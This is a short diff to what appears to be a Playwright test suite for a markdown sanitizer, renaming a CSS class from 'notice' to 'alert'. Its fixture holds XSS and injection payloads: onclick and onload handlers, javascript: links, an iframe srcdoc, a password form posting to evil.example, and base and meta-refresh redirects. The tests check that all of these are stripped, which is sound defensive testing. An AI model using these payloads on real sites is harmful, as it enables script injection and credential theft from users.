@@ -15,7 +15,7 @@ MARKDOWN = f"""# Title <b onclick="window.hit = 1">bold</b>
 
 [link](javascript:window.hit=1) <a href="javascript:window.hit=1" id="click">raw</a> <svg onload="window.hit = 1"></svg>
 <iframe srcdoc="{ATTACK}"></iframe> <form action="https://evil.example"><input name=password></form>
-<style>body {{ display: none }}</style> <p style="position: fixed; inset: 0" class="notice">over everything</p>
+<style>body {{ display: none }}</style> <p style="position: fixed; inset: 0" class="alert">over everything</p>
 <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example">
 """
 
@@ -34,7 +34,7 @@ def test_descriptions_run_nothing(page: Page, content: Content) -> None:
     bad = page.locator("main :is(script, iframe, form, style, base, meta, svg[onload], [onclick], [onerror], [style])")
     assert bad.count() == 0
     assert page.locator('main [href^="javascript"]').count() == 0
-    assert page.locator(".prose .notice").count() == 0
+    assert page.locator(".prose .alert").count() == 0
 
 
 def test_images_run_nothing(page: Page, content: Content) -> None:
